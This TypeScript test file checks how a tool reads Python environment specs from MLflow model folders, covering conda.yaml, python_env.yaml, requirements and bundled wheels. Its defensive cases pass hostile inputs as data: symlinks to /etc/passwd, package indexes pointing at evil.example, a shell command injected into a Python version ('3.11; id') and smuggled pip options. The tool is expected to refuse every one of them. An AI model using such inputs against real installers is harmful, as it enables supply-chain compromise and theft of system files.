import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { readEnvironmentSpec } from './python-env-file.ts';
import { renderRequirement } from './requirements.ts';

let folder: string;

beforeEach(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'slipway-model-'));
});
afterEach(() => rm(folder, { recursive: true, force: true }));

const MODEL = `flavors:
  python_function:
    loader_module: mlflow.sklearn
    python_version: 3.11.7
mlflow_version: 3.17.2
`;

async function plan(files: Record<string, string>) {
  for (const [name, text] of Object.entries({ MLmodel: MODEL, ...files })) {
    await mkdir(path.dirname(path.join(folder, name)), { recursive: true });
    await writeFile(path.join(folder, name), text);
  }
  const spec = await readEnvironmentSpec(folder);
  return { ...spec, requirements: spec.requirements.map(renderRequirement) };
}

const PYTHON_ENV = `python: 3.10.4
build_dependencies:
- pip==26.1
- setuptools==80.1.0
- wheel
dependencies:
- -r requirements.txt
`;

test('python_env.yaml decides, with the requirements that it refers to', async () => {
  const spec = await plan({
    'python_env.yaml': PYTHON_ENV,
    'requirements.txt': 'mlflow==3.17.2\nscikit-learn==1.9.1\n',
    'conda.yaml': 'dependencies:\n- python=3.8.1\n',
  });
  expect(spec.python).toBe('3.10.4');
  expect(spec.requirements).toEqual(['setuptools==80.1.0', 'mlflow==3.17.2', 'scikit-learn==1.9.1']);
});

test('conda.yaml is read by older models, for its Python and its pip part', async () => {
  const spec = await plan({
    'conda.yaml':
      'channels:\n- conda-forge\ndependencies:\n- python=3.9.7\n- pip<=22\n- pip:\n  - mlflow<3\n  - six\nname: mlflow-env\n',
  });
  expect(spec.python).toBe('3.9.7');
  expect(spec.requirements).toEqual(['mlflow<3', 'six']);
});

test('requirements.txt alone takes its Python from MLmodel', async () => {
  const spec = await plan({ 'requirements.txt': 'mlflow-skinny==3.1\nsix\n' });
  expect(spec).toMatchObject({ python: '3.11.7', requirements: ['mlflow-skinny==3.1', 'six'] });
});

test('mlflow is added as the model was logged with it', async () => {
  expect((await plan({ 'requirements.txt': 'six' })).requirements).toEqual(['six', 'mlflow==3.17.2']);
});

test('an mlflow under development is in no index: then any is taken', async () => {
  const spec = await plan({ MLmodel: 'mlflow_version: 3.18.0.dev0\nflavors: {}\n' });
  expect(spec.requirements).toEqual(['mlflow']);
});

test('Python 3.10 is not read as the number 3.1', async () => {
  expect((await plan({ 'python_env.yaml': 'python: 3.10\n' })).python).toBe('3.10');
});

test('constraints of the model are kept apart', async () => {
  const spec = await plan({
    'requirements.txt': 'six\n-c constraints.txt\n',
    'constraints.txt': 'numpy<2\n',
  });
  expect(spec.constraints.map(renderRequirement)).toEqual(['numpy<2']);
});

test('a wheel inside the model is taken with its digest', async () => {
  const spec = await plan({
    'requirements.txt': 'code/own-1.0-py3-none-any.whl',
    'code/own-1.0-py3-none-any.whl': 'x',
  });
  expect(spec.wheels).toMatchObject([
    { sha256: '2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881' },
  ]);
});

test('a wheel that is a link out of the model is refused', async () => {
  await mkdir(path.join(folder, 'code'));
  await symlink('/etc/hostname', path.join(folder, 'code', 'own-1.0-py3-none-any.whl'));
  await expect(plan({ 'requirements.txt': 'code/own-1.0-py3-none-any.whl' })).rejects.toThrow(
    /outside the model/,
  );
});

test('a requirements file that is a link is refused', async () => {
  await symlink('/etc/passwd', path.join(folder, 'requirements.txt'));
  await expect(plan({})).rejects.toThrow('requirements.txt of the model is not a file.');
});

test.each([
  [
    'python_env.yaml',
    'dependencies:\n- six\n- --index-url https://evil.example\n',
    /^python_env\.yaml, line 2: .*refused/,
  ],
  ['python_env.yaml', 'dependencies:\n- "six\\n-e ."\n', /^python_env\.yaml, line 1: '-e \.' is refused/],
  [
    'python_env.yaml',
    'build_dependencies:\n- git+https://evil.example\n',
    /^python_env\.yaml, line 1: .*refused/,
  ],
  ['python_env.yaml', 'python: 3.11; id\n', /Python version/],
  ['python_env.yaml', 'dependencies: six\n', /must be a list of texts/],
  ['python_env.yaml', '{{', /cannot be read as YAML/],
  ['conda.yaml', 'dependencies:\n- pip:\n  - x @ file:///etc\n', /^conda\.yaml, line 1: .*refused/],
  ['requirements.txt', 'six\n\n-e .\n', /^requirements\.txt, line 3: .*refused/],
  ['requirements.txt', '-r requirements.txt', /refers to itself/],
  ['requirements.txt', '-c constraints.txt', /the model has no file constraints\.txt/],
])('%s with %j is refused by name and line', async (name, text, message) => {
  await expect(plan({ [name]: text })).rejects.toThrow(message);
});

test('a folder without MLmodel is no model', async () => {
  await expect(readEnvironmentSpec(folder)).rejects.toThrow(/no file MLmodel/);
});
